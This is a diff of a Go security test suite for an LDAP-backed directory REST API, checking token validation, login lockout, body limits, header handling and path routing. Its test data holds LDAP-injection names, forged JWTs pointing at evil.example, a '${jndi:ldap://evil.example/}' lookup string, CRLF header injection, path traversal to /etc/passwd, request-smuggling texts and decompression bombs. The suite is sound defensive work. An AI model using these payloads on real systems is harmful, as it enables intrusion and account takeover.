@@ -291,10 +291,11 @@ func TestTheCheckForLeaksFindsThem(t *testing.T) {
 		place, _, _ := strings.Cut(leak, " holds ")
 		places[place]++
 	}
-	want := map[string]int{"the log": 6, "the log, decoded": 6, "the audit trail": 1, "the audit trail, decoded": 1, "the directory": 1}
-	for place, n := range want {
-		if places[place] < 1 || n > 1 && places[place] < 4 {
-			t.Errorf("%s: %d leaks were found, want about %d", place, places[place], n)
+	for place, n := range map[string]int{
+		"the log": 4, "the log, decoded": 4, "the audit trail": 1, "the audit trail, decoded": 1, "the directory": 1,
+	} {
+		if places[place] < n {
+			t.Errorf("%s: %d leaks were found, want %d at least", place, places[place], n)
 		}
 	}
 	a.do("PATCH", "/users/bob", object{"title": "x"}).want(200)
@@ -376,8 +377,8 @@ func TestNoTokenIsTakenButOurs(t *testing.T) {
 	otherX := base64.RawURLEncoding.EncodeToString(otherKey.Public().(ed25519.PublicKey))
 	otherJWK := object{"kty": "OKP", "crv": "Ed25519", "x": otherX, "kid": "other", "use": "sig", "alg": "EdDSA"}
 	ours, theirs := edDSA(tokenKey), edDSA(otherKey)
-	bob := a.do("POST", "/users", object{"cn": "mallory", "sn": "x", "userPassword": "mallory-password"}).want(201).object()
-	_, bobs := opened(t, a.login("mallory", "mallory-password").AccessToken)
+	a.do("PUT", "/users/mallory", object{"sn": "x", "userPassword": "mallory-password"}).want(201)
+	_, another := opened(t, a.login("mallory", "mallory-password").AccessToken)
 	past, future := time.Now().Add(-time.Second).Unix(), time.Now().Add(time.Hour).Unix()
 
 	rows := []struct {
@@ -407,7 +408,7 @@ func TestNoTokenIsTakenButOurs(t *testing.T) {
 		{what: "signed with zeros", sign: func(string) []byte { return make([]byte, ed25519.SignatureSize) }},
 		{what: "signed for something else", sign: func(string) []byte { return ed25519.Sign(tokenKey, []byte("x")) }},
 		{what: "signed by another key", sign: theirs},
-		{what: "of another issuer and key", header: object{"kid": "x"}, claims: object{"iss": "https://evil.example"}, sign: theirs},
+		{what: "of another issuer and key", claims: object{"iss": "https://evil.example"}, sign: theirs},
 		{what: "of another issuer by our key", claims: object{"iss": "https://evil.example"}, sign: ours},
 		{what: "of an issuer that looks like ours", claims: object{"iss": "Rollcall"}, sign: ours},
 		{what: "of no issuer", claims: object{"iss": absent}, sign: ours},
@@ -446,8 +447,8 @@ func TestNoTokenIsTakenButOurs(t *testing.T) {
 		{what: "a jku", header: object{"jku": a.server.URL + "/evil", "kid": "other"}, sign: theirs},
 		{what: "an x5u", header: object{"x5u": a.server.URL + "/evil", "kid": "other"}, sign: theirs},
 		{what: "an x5c", header: object{"x5c": []string{base64.StdEncoding.EncodeToString(der)}}, sign: theirs},
-		{what: "another's session", claims: object{"sid": bobs["sid"]}, sign: ours, late: true},
-		{what: "another's subject", claims: object{"sub": bob["id"]}, sign: ours, late: true},
+		{what: "another's session", claims: object{"sid": another["sid"]}, sign: ours, late: true},
+		{what: "another's subject", claims: object{"sub": another["sub"]}, sign: ours, late: true},
 		{what: "a name for a subject", claims: object{"sub": "alice"}, sign: ours, late: true},
 		{what: "a DN for a subject", claims: object{"sub": userDN("alice")}, sign: ours, late: true},
 		{what: "any subject", claims: object{"sub": "*"}, sign: ours, late: true},
@@ -482,7 +483,7 @@ func TestNoTokenIsTakenButOurs(t *testing.T) {
 		}
 		good := kind.token(s)
 		parts := strings.Split(good, ".")
-		other := base64.RawURLEncoding.EncodeToString([]byte(mustJSON(altered(claims, object{"sub": bob["id"]}))))
+		other := base64.RawURLEncoding.EncodeToString([]byte(mustJSON(altered(claims, object{"sub": another["sub"]}))))
 		for what, token := range map[string]string{
 			"with another payload": parts[0] + "." + other + "." + parts[2],
 			"cut":                  good[:len(good)-2],
@@ -649,7 +650,8 @@ func TestAPasswordIsRightOrWrongAsAWhole(t *testing.T) {
 		t.Fatal(err)
 	}
 	lax := func(conf string) string { return "allow bind_anon_cred bind_anon_dn\n" + conf }
-	unlocked := "uid: alice\npwdPolicySubentry: cn=decoy,ou=policies," + ldapdirtest.Base + "\n" // or the lock refuses them all
+	// She is not locked, or that would refuse them all.
+	unlocked := "uid: alice\npwdPolicySubentry: cn=decoy,ou=policies," + ldapdirtest.Base + "\n"
 	seed = strings.Replace(seed, "uid: alice\n", unlocked, 1)
 	a := newTargetOn(t, ldapdirtest.Start(t, slapd.Options{Seed: seed, Config: lax}))
 	const right = "pässword of alice"
@@ -801,8 +803,10 @@ func TestALoginNameIsANameAndNothingElse(t *testing.T) {
 	for _, door := range doors {
 		for _, name := range []string{
 			"*", "a*", "alic*", "*lice", "al*ce", "*)(uid=*", "alice)(uid=*", "*)(uid=alice))(|(uid=*", "alice)(|(cn=*)",
-			"alice)(objectClass=*", "alice))(&(uid=alice", "(alice)", "(uid=alice)", "alice)", "(&(uid=alice))", "|(uid=alice)",
-			userDN("alice"), "cn=alice", "uid=alice", "cn=alice,ou=people", "alice,ou=people", "dn:" + userDN("alice"), "u:alice",
+			"alice)(objectClass=*", "alice))(&(uid=alice", "(alice)", "(uid=alice)", "alice)", "(&(uid=alice))",
+			"|(uid=alice)",
+			userDN("alice"), "cn=alice", "uid=alice", "cn=alice,ou=people", "alice,ou=people", "dn:" + userDN("alice"),
+			"u:alice",
 			`\61lice`, `\2a`, `alic\65`, `alice\`, `alice\00`, `alice\2a`, `\\61lice`, "&#97;lice", "%61lice",
 			"alice\x00", "\x00alice", "alice\x00)(uid=*", "\x00", "al\x00ice",
 			"alice;", "alice#", "#616c696365", "alice\u200b", "\u0430lice", "alice\xff", "alice@example.org",
@@ -1014,10 +1018,12 @@ func TestAThousandWrongPasswordsAreThree(t *testing.T) {
 
 func TestNobodyGetsMoreTries(t *testing.T) {
 	spellings := []string{
-		"alice", "ALICE", "Alice", "aLiCe", "\uff41\uff4c\uff49\uff43\uff45", "\uff21lice", " alice", "alice ", "  alice  ", "alice\u00a0",
+		"alice", "ALICE", "Alice", "aLiCe", "\uff41\uff4c\uff49\uff43\uff45", "\uff21lice", " alice", "alice ",
+		"  alice  ", "alice\u00a0",
 	}
 	strangers := []string{
-		"no one", "NO ONE", "No One", " no one", "no one ", "no  one", "\uff4eo one", "no\u00a0one", "\uff2e\uff2f one", "  no   one  ",
+		"no one", "NO ONE", "No One", " no one", "no one ", "no  one", "\uff4eo one", "no\u00a0one",
+		"\uff2e\uff2f one", "  no   one  ",
 	}
 	for _, c := range []struct {
 		what   string
@@ -1056,7 +1062,7 @@ func TestNobodyGetsMoreTries(t *testing.T) {
 			}},
 		{"by trying many names", nil, "", 30,
 			func(a *target, i int) *exchange {
-				return doors[i%2].knock(a.from(evil), []string{"bob", "anna", "jose"}[i%3]+strconv.Itoa(i/6), "Summer2026!")
+				return doors[i%2].knock(a.from(evil), []string{"bob", "anna", "jose"}[i%3]+strconv.Itoa(i), "Summer2026!")
 			}},
 		{"by logging in to an account of their own in between", nil, "alice", 3,
 			func(a *target, i int) *exchange {
@@ -1121,13 +1127,32 @@ func TestManyAtOnceGetNoMoreTries(t *testing.T) {
 	}
 }
 
+func TestHangingUpIsNoWayToGetMoreTries(t *testing.T) {
+	a := newTarget(t, realistic)
+	const guesses = 60
+	for i := range guesses {
+		c := a.dial(a.server.Listener.Addr().String())
+		text := "GET /me HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: " + evil + "\r\n" + a.basic("alice", guess(i)) + "\r\n"
+		if _, err := io.WriteString(c, text); err != nil {
+			t.Fatal(err)
+		}
+		_ = c.Close()
+	}
+	within(t, func() bool { return strings.Count(a.log.text(), `"route":"/me"`) == guesses })
+	a.holds("alice", 3)
+}
+
 func TestAWrongCurrentPasswordIsAFailedLogin(t *testing.T) {
 	a := newTarget(t, realistic)
 	alice := a.from(evil) // who has her token, but not her password
 	alice.Token = alice.login("alice", "alice-password").AccessToken
+	change := func(current string) *exchange {
+		body := object{"currentPassword": current, "newPassword": "the-thiefs-password"}
+		return alice.do("PUT", "/users/alice/password", body)
+	}
 	tried := 0
 	for i := range 60 {
-		x := alice.do("PUT", "/users/alice/password", object{"currentPassword": guess(i), "newPassword": "the-thiefs-password"})
+		x := change(guess(i))
 		if x.Status == 429 {
 			x.refused(directory.TooManyLogins)
 			continue
@@ -1140,8 +1165,7 @@ func TestAWrongCurrentPasswordIsAFailedLogin(t *testing.T) {
 	}
 	a.holds("alice", 3)
 	doors[1].knock(a.from(evil), "alice", "alice-password").refused(directory.TooManyLogins)
-	x := alice.do("PUT", "/users/alice/password", object{"currentPassword": "alice-password", "newPassword": "the-thiefs-password"})
-	x.refused(directory.TooManyLogins)
+	change("alice-password").refused(directory.TooManyLogins)
 	for _, door := range doors {
 		door.knock(a.from(home), "alice", "alice-password").want(200)
 	}
@@ -1199,7 +1223,8 @@ func TestAPasswordIsNoEasierToGuessWhileItIsRemembered(t *testing.T) {
 var bodies = []struct{ method, path, field string }{
 	{"POST", "/login", "username"}, {"POST", "/refresh", "refresh_token"},
 	{"POST", "/users", "cn"}, {"POST", "/groups", "members"}, {"POST", "/hosts", "sshPublicKeys"},
-	{"PUT", "/users/alice", "accountLocked"}, {"PUT", "/groups/devs", "description"}, {"PUT", "/hosts/web1", "ipAddresses"},
+	{"PUT", "/users/alice", "accountLocked"}, {"PUT", "/groups/devs", "description"},
+	{"PUT", "/hosts/web1", "ipAddresses"},
 	{"PATCH", "/users/alice", "sn"}, {"PATCH", "/groups/devs", "members"}, {"PATCH", "/hosts/web1", "location"},
 	{"PUT", "/users/alice/password", "newPassword"},
 }
@@ -1215,7 +1240,10 @@ func gzipped(text string) string {
 func TestNoBodyIsABomb(t *testing.T) {
 	a := newTarget(t)
 	const deep = 100_000
-	arrays, objects := strings.Repeat("[", deep)+strings.Repeat("]", deep), strings.Repeat(`{"x":`, deep)+"1"+strings.Repeat("}", deep)
+	arrays := strings.Repeat("[", deep) + strings.Repeat("]", deep)
+	objects := strings.Repeat(`{"x":`, deep) + "1" + strings.Repeat("}", deep)
+	inflates := []string{"Content-Encoding", "gzip"}
+	refused := directory.UnsupportedMediaType
 	many := "{"
 	for i := range 50_000 {
 		many += `"f` + strconv.Itoa(i) + `":1,`
@@ -1227,12 +1255,12 @@ func TestNoBodyIsABomb(t *testing.T) {
 		code *directory.Code
 		more []string // headers
 	}{
-		{"gzip", gzipped(`{"FIELD":"` + strings.Repeat("0", 10<<20) + `"}`), directory.UnsupportedMediaType, []string{"Content-Encoding", "gzip"}},
-		{"small gzip", gzipped(`{"FIELD":"x"}`), directory.UnsupportedMediaType, []string{"Content-Encoding", "gzip"}},
-		{"gzip in another case", gzipped(`{}`), directory.UnsupportedMediaType, []string{"Content-Encoding", "GZip"}},
-		{"gzip twice", gzipped(gzipped("{}")), directory.UnsupportedMediaType, []string{"Content-Encoding", "gzip, gzip"}},
-		{"deflate", "x", directory.UnsupportedMediaType, []string{"Content-Encoding", "deflate"}},
-		{"brotli", "x", directory.UnsupportedMediaType, []string{"Content-Encoding", "br"}},
+		{"gzip", gzipped(`{"FIELD":"` + strings.Repeat("0", 10<<20) + `"}`), refused, inflates},
+		{"small gzip", gzipped(`{"FIELD":"x"}`), refused, inflates},
+		{"gzip in another case", gzipped(`{}`), refused, []string{"Content-Encoding", "GZip"}},
+		{"gzip twice", gzipped(gzipped("{}")), refused, []string{"Content-Encoding", "gzip, gzip"}},
+		{"deflate", "x", refused, []string{"Content-Encoding", "deflate"}},
+		{"brotli", "x", refused, []string{"Content-Encoding", "br"}},
 		{"gzip that does not say so", gzipped(`{"FIELD":"x"}`), directory.BadRequest, nil},
 		{"deep arrays in a field", `{"FIELD":` + arrays + `}`, directory.BadRequest, nil},
 		{"deep objects in a field", `{"FIELD":` + objects + `}`, directory.BadRequest, nil},
@@ -1257,7 +1285,7 @@ func TestNoBodyIsABomb(t *testing.T) {
 		{"null", "null", directory.BadRequest, nil},
 		{"10 MB", `{"FIELD":"` + strings.Repeat("x", 10<<20) + `"}`, directory.BodyTooLarge, nil},
 		{"10 MB of spaces", strings.Repeat(" ", 10<<20) + "{}", directory.BodyTooLarge, nil},
-		{"XML", `<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`, directory.UnsupportedMediaType, []string{"Content-Type", "application/xml"}},
+		{"XML", `<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`, refused, []string{"Content-Type", "application/xml"}},
 	} {
 		t.Run(c.what, func(t *testing.T) {
 			for _, route := range bodies {
@@ -1357,6 +1385,7 @@ func (a *target) basic(login, password string) string {
 func TestABodyWithoutEndIsCut(t *testing.T) {
 	a := newTarget(t)
 	address := a.server.Listener.Addr().String()
+	const most = 32 << 20 // what the system itself takes is less
 	chunk := "2000\r\n" + strings.Repeat("x", 0x2000) + "\r\n"
 	for _, route := range bodies {
 		t.Run(route.method+" "+route.path, func(t *testing.T) {
@@ -1365,11 +1394,12 @@ func TestABodyWithoutEndIsCut(t *testing.T) {
 			sent, ended := 0, make(chan struct{})
 			go func() {
 				defer close(ended)
-				_, err := io.WriteString(c, route.method+" "+route.path+" HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"+
-					"Transfer-Encoding: chunked\r\n"+a.basic("admin", "admin")+"\r\n")
-				for ; err == nil && sent < 1<<30; sent += len(chunk) {
+				_, err := io.WriteString(c, route.method+" "+route.path+" HTTP/1.1\r\nHost: x\r\n"+a.basic("admin", "admin")+
+					"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
+				for ; err == nil && sent < most; sent += len(chunk) {
 					_, err = io.WriteString(c, chunk)
 				}
+				_ = c.(*net.TCPConn).CloseWrite()
 			}()
 			answer := a.reply(c)
 			if answer.status != 413 && !answer.closed { // closed: the answer was lost to what was still being sent
@@ -1377,7 +1407,7 @@ func TestABodyWithoutEndIsCut(t *testing.T) {
 			}
 			_ = c.Close()
 			<-ended
-			if sent > 64<<20 {
+			if sent >= most {
 				t.Errorf("%d bytes of it were taken", sent)
 			}
 		})
@@ -1405,7 +1435,8 @@ func TestASlowBodyIsGivenUp(t *testing.T) {
 func TestNamesWriteNoHeaders(t *testing.T) {
 	a := newTarget(t)
 	for _, name := range []string{
-		"x\r\nSet-Cookie: a=b", "x\nSet-Cookie: a=b", "x\rSet-Cookie: a=b", "x\r\n\r\n<script>", "x\x00y", "x\u0085Set-Cookie: a=b", "\r\n", "x\x1b[2J", "x\x7f",
+		"x\r\nSet-Cookie: a=b", "x\nSet-Cookie: a=b", "x\rSet-Cookie: a=b", "x\r\n\r\n<script>", "x\x00y",
+		"x\u0085Set-Cookie: a=b", "\r\n", "x\x1b[2J", "x\x7f",
 	} {
 		for _, x := range []*exchange{
 			a.do("POST", "/users", object{"cn": name, "sn": "x"}).refused(directory.Invalid, "cn"),
@@ -1422,7 +1453,8 @@ func TestNamesWriteNoHeaders(t *testing.T) {
 		}
 	}
 	for _, name := range []string{
-		"x\u2028Set-Cookie: a=b", `x", "y": "z`, `x>; rel="next"`, "<script>alert(1)</script>", "x;y,z", "%0d%0aSet-Cookie: a=b", "a/../b", "x?y#z", "é\u202e",
+		"x\u2028Set-Cookie: a=b", `x", "y": "z`, `x>; rel="next"`, "<script>alert(1)</script>", "x;y,z",
+		"%0d%0aSet-Cookie: a=b", "a/../b", "x?y#z", "é\u202e",
 	} {
 		x := a.do("POST", "/users", object{"cn": name, "sn": "x"}).want(201).field("cn", name)
 		x.plain()
@@ -1438,8 +1470,10 @@ func TestNamesWriteNoHeaders(t *testing.T) {
 func (x *exchange) plain() {
 	x.t.Helper()
 	known := []string{
-		"Cache-Control", "Content-Length", "Content-Security-Policy", "Content-Type", "Cross-Origin-Resource-Policy", "Date", "Etag",
-		"Location", "Referrer-Policy", "X-Content-Type-Options", "X-Request-Id", "Vary", "Allow", "Connection", "Www-Authenticate",
+		"Cache-Control", "Content-Length", "Content-Security-Policy", "Content-Type", "Cross-Origin-Resource-Policy",
+		"Date", "Etag",
+		"Location", "Referrer-Policy", "X-Content-Type-Options", "X-Request-Id", "Vary", "Allow", "Connection",
+		"Www-Authenticate",
 	}
 	for name, values := range x.Header {
 		if !slices.Contains(known, name) {
@@ -1454,9 +1488,12 @@ func (x *exchange) plain() {
 func TestHeadersOfStrangersAreNotBelieved(t *testing.T) {
 	a := newTarget(t, func(s *settings) { s.rest.TrustedProxies = nil })
 	forwarded := []string{
-		"X-Forwarded-Host", "evil.example", "X-Forwarded-Proto", "https", "X-Forwarded-Prefix", "/evil", "X-Forwarded-For", "192.0.2.66",
-		"Forwarded", `for=192.0.2.66;host=evil.example;proto=https`, "X-Original-Url", "/users/bob", "X-Rewrite-Url", "/users/bob",
-		"X-Http-Method-Override", "DELETE", "X-Method-Override", "DELETE", "X-Remote-User", "admin", "X-Forwarded-User", "admin",
+		"X-Forwarded-Host", "evil.example", "X-Forwarded-Proto", "https", "X-Forwarded-Prefix", "/evil",
+		"X-Forwarded-For", "192.0.2.66",
+		"Forwarded", `for=192.0.2.66;host=evil.example;proto=https`, "X-Original-Url", "/users/bob", "X-Rewrite-Url",
+		"/users/bob",
+		"X-Http-Method-Override", "DELETE", "X-Method-Override", "DELETE", "X-Remote-User", "admin",
+		"X-Forwarded-User", "admin",
 	}
 	x := a.do("POST", "/users", object{"cn": "zed", "sn": "x"}, forwarded...).want(201)
 	if got, want := x.Header.Get("Location"), a.server.URL+"/users/zed"; got != want {
@@ -1481,7 +1518,8 @@ func TestAHostIsAHost(t *testing.T) {
 	a := newTarget(t)
 	address := a.server.Listener.Addr().String()
 	for _, host := range []string{
-		"evil.example/x", "evil.example?x", "evil.example#x", "a@evil.example", `evil"example`, "<script>", "evil example", "evil\texample", `evil\example`, "é",
+		"evil.example/x", "evil.example?x", "evil.example#x", "a@evil.example", `evil"example`, "<script>",
+		"evil example", "evil\texample", `evil\example`, "é",
 	} {
 		answer := a.send(address, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
 		if answer.status != 400 {
@@ -1493,7 +1531,9 @@ func TestAHostIsAHost(t *testing.T) {
 			t.Errorf("the hosts %q are answered with %d %s", lines, answer.status, answer.body)
 		}
 	}
-	for _, forwarded := range []string{"evil.example/x", "a@evil.example", `evil"example`, "<script>", "evil example", "é", "a\\b", "a?b", "a#b"} {
+	for _, forwarded := range []string{
+		"evil.example/x", "a@evil.example", `evil"example`, "<script>", "evil example", "é", "a\\b", "a?b", "a#b",
+	} {
 		x := a.do("GET", "/", nil, "X-Forwarded-Host", forwarded).want(200)
 		var index struct{ Links map[string]string }
 		x.decode(&index)
@@ -1507,17 +1547,19 @@ func TestARequestIDIsALineOfItsOwn(t *testing.T) {
 	a := newTarget(t)
 	address := a.server.Listener.Addr().String()
 	for _, line := range []string{
-		`X-Request-Id: a","level":"error`, "X-Request-Id: a b", "X-Request-Id: a\r\n b", "X-Request-Id: a\tb", "X-Request-Id: é",
-		"X-Request-Id: " + strings.Repeat("x", 129), "X-Request-Id: <script>", "X-Request-Id: a\x1b[2J", "X-Request-Id: a\rSet-Cookie: b",
-		"X-Request-Id: a\nSet-Cookie: b=c", "X-Request-Id: \xff", "X-Request-Id: ${jndi:ldap://evil.example/}", "X-Request-Id: a\x00b", "X-Request-Id:",
+		`X-Request-Id: a","level":"error`, "X-Request-Id: a b", "X-Request-Id: a\r\n b", "X-Request-Id: a\tb",
+		"X-Request-Id: é",
+		"X-Request-Id: " + strings.Repeat("x", 129), "X-Request-Id: <script>", "X-Request-Id: a\x1b[2J",
+		"X-Request-Id: a\rSet-Cookie: b",
+		"X-Request-Id: \xff", "X-Request-Id: ${jndi:ldap://evil.example/}",
+		"X-Request-Id: a\x00b", "X-Request-Id:",
 	} {
 		answer := a.send(address, "GET /nothing HTTP/1.1\r\nHost: x\r\n"+line+"\r\n\r\n")
 		_, sent, _ := strings.Cut(line, ": ")
 		got := answer.header.Get("X-Request-Id")
-		if answer.closed || answer.status != 400 && (answer.status != 404 || got == "" || got == sent) || answer.header.Get("Set-Cookie") != "" {
-			if !(strings.Contains(line, "\nSet-Cookie") && answer.status == 404 && got == "a") { // a line feed ends a line: two headers
-				t.Errorf("%q is answered with %d %v", line, answer.status, answer.header)
-			}
+		anew := answer.status == 404 && got != "" && got != sent
+		if answer.status != 400 && !anew || answer.header.Get("Set-Cookie") != "" {
+			t.Errorf("%q is answered with %d %v", line, answer.status, answer.header)
 		}
 	}
 }
@@ -1529,29 +1571,46 @@ func TestAPathLeadsWhereItSaysOrNowhere(t *testing.T) {
 	address := a.server.Listener.Addr().String()
 	alice, admin := a.basic("alice", "alice-password"), a.basic("admin", "admin")
 	base := newTargetOn(t, a.slapd, func(s *settings) { s.rest.BasePath = "/api" })
+	below := base.server.Listener.Addr().String()
 	for _, c := range []struct {
 		target string
 		admin  int // what an admin is answered with: 200 for alice's entry, 404, or 400
 	}{
-		{"/users/alice", 200}, {"/users/%61lice", 200}, {"/users/ALICE", 200}, {"/users/alice?x=/../bob", 200}, {"/users/alice?", 200},
+		{"/users/alice", 200}, {"/users/%61lice", 200}, {"/users/ALICE", 200}, {"/users/alice?x=/../bob", 200},
+		{"/users/alice?", 200},
 		{"http://evil.example/users/alice", 200}, {"HTTP://evil.example/users/alice", 200},
-		{"/users/alice/", 404}, {"/users/alice//", 404}, {"//users/alice", 404}, {"/users//alice", 404}, {"///users/alice", 404},
+		{"/users/alice/", 404}, {"/users/alice//", 404}, {"//users/alice", 404}, {"/users//alice", 404},
+		{"///users/alice", 404},
 		{"//evil.example/users/alice", 404}, {"/./users/alice", 404}, {"/users/./alice", 404}, {"/users/alice/.", 404},
-		{"/users/bob/../alice", 404}, {"/healthz/../users/alice", 404}, {"/errors/../users/alice", 404}, {"/errors/%2e%2e/users/alice", 404},
-		{"/login/../users/alice", 404}, {"/.well-known/jwks.json/../../users/alice", 404}, {"/docs/access/../../users/alice", 404},
-		{"/healthz/%2e%2e/users/alice", 404}, {"/healthz%2f..%2fusers/alice", 404}, {"/%2e%2e/users/alice", 404}, {"/../users/alice", 404},
-		{"/errors/..%2fusers%2falice", 404}, {"/users%2falice", 404}, {"%2fusers/alice", 400}, {"/%75sers/alice", 404}, {"/USERS/alice", 404},
-		{"/users/..", 404}, {"/users/.", 404}, {"/users/%2e%2e", 404}, {"/users/%2e", 404}, {"/users/..%2falice", 404}, {"/users/alice%2f", 404},
-		{"/users/alice%2f..%2fbob", 404}, {"/users/alice%252f", 404}, {"/users/%2561lice", 404}, {"/users/alice%00", 404}, {"/users/alice%00.json", 404},
-		{"/users/alice%0d%0aX:%20y", 404}, {"/users/alice;x=y", 404}, {"/users/alice;/", 404}, {"/users;x/alice", 404}, {"/users/alice.json", 404},
-		{"/users/alice%20x", 404}, {"/users/alice%09", 200}, {"/users/%20alice%20", 200}, {"/users/alice#x", 404}, {"/users/alice%23x", 404}, {"/users/alice%3fx", 404},
-		{`\users\alice`, 400}, {`/users\alice`, 404}, {`/users/..\alice`, 404}, {"/users/%5c61lice", 404}, {`/users/\61lice`, 404},
-		{"/users/*", 404}, {"/users/al%2a", 404}, {"/users/*)(cn=*", 404}, {"/users/cn=alice", 404}, {"/users/" + userDN("alice"), 404},
-		{"/users/alice,ou=people", 404}, {"/users/alice%2bsn=x", 404}, {"/users/#616c696365", 404}, {"/users/%23616c696365", 404},
+		{"/users/bob/../alice", 404}, {"/healthz/../users/alice", 404}, {"/errors/../users/alice", 404},
+		{"/errors/%2e%2e/users/alice", 404},
+		{"/login/../users/alice", 404}, {"/.well-known/jwks.json/../../users/alice", 404},
+		{"/docs/access/../../users/alice", 404},
+		{"/healthz/%2e%2e/users/alice", 404}, {"/healthz%2f..%2fusers/alice", 404}, {"/%2e%2e/users/alice", 404},
+		{"/../users/alice", 404},
+		{"/errors/..%2fusers%2falice", 404}, {"/users%2falice", 404}, {"%2fusers/alice", 400},
+		{"/%75sers/alice", 404}, {"/USERS/alice", 404},
+		{"/users/..", 404}, {"/users/.", 404}, {"/users/%2e%2e", 404}, {"/users/%2e", 404},
+		{"/users/..%2falice", 404}, {"/users/alice%2f", 404},
+		{"/users/alice%2f..%2fbob", 404}, {"/users/alice%252f", 404}, {"/users/%2561lice", 404},
+		{"/users/alice%00", 404}, {"/users/alice%00.json", 404},
+		{"/users/alice%0d%0aX:%20y", 404}, {"/users/alice;x=y", 404}, {"/users/alice;/", 404},
+		{"/users;x/alice", 404}, {"/users/alice.json", 404},
+		{"/users/alice%20x", 404}, {"/users/alice%09", 200}, {"/users/%20alice%20", 200}, {"/users/alice#x", 404},
+		{"/users/alice%23x", 404}, {"/users/alice%3fx", 404},
+		{`\users\alice`, 400}, {`/users\alice`, 404}, {`/users/..\alice`, 404}, {"/users/%5c61lice", 404},
+		{`/users/\61lice`, 404},
+		{"/users/*", 404}, {"/users/al%2a", 404}, {"/users/*)(cn=*", 404}, {"/users/cn=alice", 404},
+		{"/users/" + userDN("alice"), 404},
+		{"/users/alice,ou=people", 404}, {"/users/alice%2bsn=x", 404}, {"/users/#616c696365", 404},
+		{"/users/%23616c696365", 404},
 		{"/users/%c0%ae%c0%ae", 404}, {"/users/%ff", 404}, {"/users/%ef%bc%8fetc", 404}, {"/users/%e2%80%8balice", 404},
-		{"/users/%zz", 400}, {"/users/%", 400}, {"/users/%6", 400}, {"users/alice", 400}, {"alice", 400}, {"*", 404}, {"", 400}, {" ", 400},
-		{"?x", 400}, {"http:///users/alice", 200}, {"http:/users/alice", 200}, {"file:///etc/passwd", 404}, {"ldap://x/users/alice", 200},
-		{"http://a@b/users/alice", 200}, {"http://[::1/users/alice", 400}, {"/users/alice HTTP/1.1\r\nX: y", 200}, {"/users/al ice", 400},
+		{"/users/%zz", 400}, {"/users/%", 400}, {"/users/%6", 400}, {"users/alice", 400}, {"alice", 400}, {"*", 404},
+		{"", 400}, {" ", 400},
+		{"?x", 400}, {"http:///users/alice", 200}, {"http:/users/alice", 200}, {"file:///etc/passwd", 404},
+		{"ldap://x/users/alice", 200},
+		{"http://a@b/users/alice", 200}, {"http://[::1/users/alice", 400}, {"/users/alice HTTP/1.1\r\nX: y", 200},
+		{"/users/al ice", 400},
 		{"/users/\x00", 400}, {"/users/\x7f", 400}, {"/users/alice\tx", 400}, {"/users/é", 404},
 		{"/groups/devs/../../users/alice", 404}, {"/groups/devs/members/..", 404}, {"/groups/devs/members/users/..", 405},
 		{"/groups/devs/members/users%2falice", 404}, {"/" + strings.Repeat("../", 1000) + "users/alice", 404},
@@ -1570,7 +1629,7 @@ func TestAPathLeadsWhereItSaysOrNowhere(t *testing.T) {
 					t.Errorf("%s gets no problem document: %d %v %.300s", who, answer.status, answer.header, answer.body)
 				}
 			}
-			under := base.send(base.server.Listener.Addr().String(), "GET /api/.."+c.target+" HTTP/1.1\r\nHost: x\r\n"+admin+"\r\n")
+			under := base.send(below, "GET /api/.."+c.target+" HTTP/1.1\r\nHost: x\r\n"+admin+"\r\n")
 			if under.status < 400 || !refuses(under) {
 				t.Errorf("below a base path it is answered with %d %.300s", under.status, under.body)
 			}
@@ -1592,6 +1651,7 @@ func TestWhatIsNoRequestIsRefused(t *testing.T) {
 	a := newTarget(t)
 	address := a.served(nil)
 	admin := a.basic("admin", "admin")
+	const login = "POST /login HTTP/1.1\r\nHost: x\r\n"
 	const inner = "DELETE /users/bob HTTP/1.1\r\nHost: x\r\n"
 	for _, c := range []struct {
 		what, text string
@@ -1608,13 +1668,13 @@ func TestWhatIsNoRequestIsRefused(t *testing.T) {
 		{"TRACE", "TRACE /users/alice HTTP/1.1\r\nHost: x\r\n" + admin + "\r\n", []int{405}},
 		{"CONNECT", "CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n" + admin + "\r\n", []int{404}},
 		{"CONNECT to a path", "CONNECT /users/alice HTTP/1.1\r\nHost: x\r\n" + admin + "\r\n", []int{405}},
-		{"two lengths", "POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 9\r\n\r\n{}" + inner + admin + "\r\n", []int{400}},
-		{"a negative length", "POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n", []int{400}},
-		{"a signed length", "POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: +2\r\n\r\n{}", []int{400}},
-		{"a length beyond bounds", "POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n{}", []int{400}},
-		{"an unknown transfer coding", "POST /login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", []int{400, 501}},
-		{"two transfer codings", "POST /login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", []int{400, 501}},
-		{"a space before a colon", "POST /login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n", []int{400}},
+		{"two lengths", login + "Content-Length: 2\r\nContent-Length: 9\r\n\r\n{}" + inner + admin + "\r\n", []int{400}},
+		{"a negative length", login + "Content-Length: -1\r\n\r\n", []int{400}},
+		{"a signed length", login + "Content-Length: +2\r\n\r\n{}", []int{400}},
+		{"a length beyond bounds", login + "Content-Length: 99999999999999999999\r\n\r\n{}", []int{400}},
+		{"an unknown transfer coding", login + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", []int{400, 501}},
+		{"two transfer codings", login + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", []int{400, 501}},
+		{"a space before a colon", login + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", []int{400}},
 		{"a header without a name", "GET / HTTP/1.1\r\nHost: x\r\n: y\r\n\r\n", []int{400}},
 		{"a header without a colon", "GET / HTTP/1.1\r\nHost: x\r\nAuthorization\r\n\r\n", []int{400}},
 		{"an unescaped NUL", "GET / HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\n\r\n", []int{400}},
